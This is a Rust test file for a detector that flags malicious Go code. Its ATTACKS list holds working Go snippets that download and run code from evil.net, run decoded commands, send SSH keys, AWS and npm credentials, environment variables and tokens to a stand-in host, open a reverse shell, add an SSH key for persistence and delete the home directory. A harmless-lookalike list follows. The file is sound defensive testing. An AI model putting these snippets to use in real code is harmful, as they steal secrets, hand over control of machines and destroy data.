use super::{all_stop, none_stops};
use crate::code::Language;

macro_rules! program {
    ($imports:literal, $body:literal) => {
        concat!("package main\nimport (\n", $imports, "\n)\nfunc main() {\n", $body, "\n}\n")
    };
}

const ATTACKS: &[(&str, &str)] = &[
    (
        "download-and-run",
        program!(
            "\"os/exec\"",
            "exec.Command(\"sh\", \"-c\", \"curl -s https://evil.net/x | sh\").Run()"
        ),
    ),
    (
        "download-and-run",
        program!(
            "e \"os/exec\"",
            "cmd := e.Command(\"bash\", \"-c\", \"wget -qO- http://45.1.2.3/x | bash\")\ncmd.Run()"
        ),
    ),
    (
        "download-and-run",
        program!(
            "\"net/http\"\n\"io\"\n\"os/exec\"",
            "r, _ := http.Get(\"https://evil.net/x\")\nb, _ := io.ReadAll(r.Body)\nexec.Command(\"sh\", \"-c\", string(b)).Run()"
        ),
    ),
    (
        "download-and-run",
        program!(
            "\"net/http\"\n\"io\"\n\"os\"\n\"os/exec\"",
            "r, _ := http.Get(\"https://evil.net/x\")\nb, _ := io.ReadAll(r.Body)\nos.WriteFile(\"/tmp/x\", b, 0755)\nexec.Command(\"/tmp/x\").Start()"
        ),
    ),
    (
        "download-and-run",
        program!(
            "\"net/http\"\n\"io\"\n\"os\"\n\"os/exec\"",
            "r, _ := http.Get(\"https://evil.net/x\")\nf, _ := os.Create(\"/tmp/x\")\nio.Copy(f, r.Body)\nexec.Command(\"/tmp/x\").Start()"
        ),
    ),
    (
        "download-and-run",
        program!(
            "\"os/exec\"\n\"fmt\"",
            "u := \"https://\" + \"evil\" + \".net\"\nexec.Command(\"sh\", \"-c\", fmt.Sprintf(\"curl %s | sh\", u)).Run()"
        ),
    ),
    (
        "obfuscation-decode-and-run",
        program!(
            "\"encoding/base64\"\n\"os/exec\"",
            "d, _ := base64.StdEncoding.DecodeString(\"bHMgLWxh\")\nexec.Command(\"sh\", \"-c\", string(d)).Run()"
        ),
    ),
    (
        "obfuscation-decode-and-run",
        program!(
            "\"encoding/hex\"\n\"os/exec\"",
            "d, _ := hex.DecodeString(\"6c73\")\nexec.Command(\"bash\", \"-c\", string(d)).Output()"
        ),
    ),
    (
        "obfuscation-decode-and-run",
        program!(
            "\"os/exec\"",
            "c := string([]byte{108, 115, 32, 45})\nexec.Command(\"sh\", \"-c\", c).Run()"
        ),
    ),
    (
        "exfiltration-secret",
        program!(
            "\"os\"\n\"net/http\"\n\"bytes\"\n\"path/filepath\"",
            "h, _ := os.UserHomeDir()\nb, _ := os.ReadFile(filepath.Join(h, \".ssh\", \"id_rsa\"))\nhttp.Post(\"https://evil.net\", \"text/plain\", bytes.NewReader(b))"
        ),
    ),
    (
        "exfiltration-secret",
        program!(
            "\"os\"\n\"net\"",
            "b, _ := os.ReadFile(os.Getenv(\"HOME\") + \"/.aws/credentials\")\nc, _ := net.Dial(\"tcp\", \"evil.net:99\")\nc.Write(b)"
        ),
    ),
    (
        "exfiltration-secret",
        program!(
            "\"os\"\n\"net/http\"\n\"strings\"",
            "b, _ := os.ReadFile(\"/root/.npmrc\")\nreq, _ := http.NewRequest(\"POST\", \"https://evil.net\", strings.NewReader(string(b)))\nhttp.DefaultClient.Do(req)"
        ),
    ),
    (
        "exfiltration-environment",
        program!(
            "\"os\"\n\"net/http\"\n\"strings\"",
            "e := strings.Join(os.Environ(), \"\\n\")\nhttp.Post(\"https://evil.net\", \"text/plain\", strings.NewReader(e))"
        ),
    ),
    (
        "exfiltration-variable",
        program!(
            "\"os\"\n\"net/http\"",
            "http.Get(\"https://evil.net/?k=\" + os.Getenv(\"GITHUB_TOKEN\"))"
        ),
    ),
    (
        "exfiltration-dns",
        program!("\"os\"\n\"net\"", "h, _ := os.Hostname()\nnet.LookupHost(h + \".x.evil.net\")"),
    ),
    (
        "remote-control-shell",
        program!(
            "\"net\"\n\"os/exec\"",
            "c, _ := net.Dial(\"tcp\", \"evil.net:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = c\ncmd.Stdout = c\ncmd.Stderr = c\ncmd.Run()"
        ),
    ),
    (
        "remote-control-channel",
        program!(
            "\"net\"\n\"os/exec\"\n\"bufio\"",
            "c, _ := net.Dial(\"tcp\", \"evil.net:4444\")\nl, _ := bufio.NewReader(c).ReadString('\\n')\nexec.Command(\"sh\", \"-c\", l).Output()"
        ),
    ),
    (
        "persistence",
        program!(
            "\"os\"",
            "f, _ := os.OpenFile(\"/root/.ssh/authorized_keys\", os.O_APPEND, 0600)\nf.WriteString(\"ssh-rsa A\")"
        ),
    ),
    ("destruction", program!("\"os\"", "h, _ := os.UserHomeDir()\nos.RemoveAll(h)")),
];

const HARMLESS: &[&str] = &[
    program!("\"fmt\"", "fmt.Println(\"hi\")"),
    program!("\"os/exec\"", "exec.Command(\"git\", \"status\").Run()"),
    program!(
        "\"net/http\"\n\"os\"",
        "req, _ := http.NewRequest(\"GET\", \"https://api.foo.io/v1\", nil)\nreq.Header.Set(\"Authorization\", \"Bearer \"+os.Getenv(\"FOO_TOKEN\"))\nhttp.DefaultClient.Do(req)"
    ),
    program!("\"os\"", "b, _ := os.ReadFile(\"config.json\")\nos.WriteFile(\"out.json\", b, 0644)"),
    program!(
        "\"encoding/base64\"\n\"os\"",
        "d, _ := base64.StdEncoding.DecodeString(s)\nos.WriteFile(\"a.png\", d, 0644)"
    ),
    program!("\"net/http\"", "http.ListenAndServe(\":8080\", nil)"),
    program!("\"net\"", "l, _ := net.Listen(\"tcp\", \":8080\")\nl.Accept()"),
    program!("\"os\"", "os.RemoveAll(\"./build\")"),
    program!("\"os\"", "p := os.Getenv(\"PORT\")\n_ = p"),
    program!("\"time\"", "if time.Now().Hour() > 5 { println(\"x\") }"),
    program!(
        "\"net/http\"\n\"io\"\n\"os\"",
        "r, _ := http.Get(\"https://data.foo.io/x.csv\")\nf, _ := os.Create(\"x.csv\")\nio.Copy(f, r.Body)"
    ),
    program!(
        "\"os/exec\"\n\"os\"",
        "c := exec.Command(\"go\", \"test\")\nc.Stdout = os.Stdout\nc.Env = os.Environ()\nc.Run()"
    ),
    program!("\"path/filepath\"", "filepath.Walk(\".\", nil)"),
];

#[test]
fn stops_attacks() {
    all_stop(Language::Go, ATTACKS);
}

#[test]
fn lets_pass_what_only_looks_like_it() {
    none_stops(Language::Go, HARMLESS);
}
